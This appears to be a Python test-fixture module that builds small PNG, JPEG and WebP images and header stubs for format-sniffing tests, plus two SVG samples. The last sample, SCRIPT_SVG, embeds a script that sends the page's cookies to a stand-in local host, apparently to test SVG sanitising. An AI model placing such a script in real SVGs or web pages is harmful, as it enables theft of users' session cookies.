"""Small real images for tests, made here (no files, no Pillow).

``png`` writes a valid, decodable PNG of any size in one colour (or a few
stripes, so two calls differ); ``jpeg_header`` and ``webp_header`` are only as
much of those formats as a sniffer reads.
"""

from __future__ import annotations

import struct
import zlib


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png(width: int = 8, height: int = 6, color: tuple[int, int, int] = (200, 60, 40), *, stripes: int = 0) -> bytes:
    """A truecolour PNG; ``stripes`` > 0 paints every other row of that many in a second colour."""
    rows = []
    for y in range(height):
        c = color if not stripes or (y // stripes) % 2 == 0 else (color[2], color[0], color[1])
        rows.append(b"\x00" + bytes(c) * width)
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", zlib.compress(b"".join(rows))) + _chunk(b"IEND", b"")


def png_header(width: int, height: int) -> bytes:
    """The first bytes of a PNG claiming ``width``×``height`` (enough for a sniffer, not for a decoder)."""
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))


def jpeg_header(width: int, height: int) -> bytes:
    """SOI, an APP0 segment, then a baseline frame header for ``width``×``height``."""
    app0 = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    sof = b"\xff\xc0" + struct.pack(">HBHHB", 17, 8, height, width, 3) + b"\x01\x22\x00\x02\x11\x01\x03\x11\x01"
    return b"\xff\xd8" + app0 + sof + b"\xff\xd9"


def webp_header(width: int, height: int) -> bytes:
    """A RIFF/WEBP file with a VP8X chunk giving the canvas size."""
    vp8x = b"VP8X" + struct.pack("<I", 10) + b"\x00\x00\x00\x00" + (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    return b"RIFF" + struct.pack("<I", 4 + len(vp8x)) + b"WEBP" + vp8x


SAFE_SVG = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    b'width="40" height="20" viewBox="0 0 40 20"><defs><linearGradient id="g"><stop offset="0" stop-color="#c33"/>'
    b'</linearGradient><rect id="dot" width="4" height="4"/></defs><rect width="40" height="20" fill="url(#g)"/><use xlink:href="#dot"/>'
    b'<text x="2" y="14">Tide</text></svg>'
)

SCRIPT_SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/>'
    b"<script>fetch('http://127.0.0.1:9/stolen?'+document.cookie)</script></svg>"
)
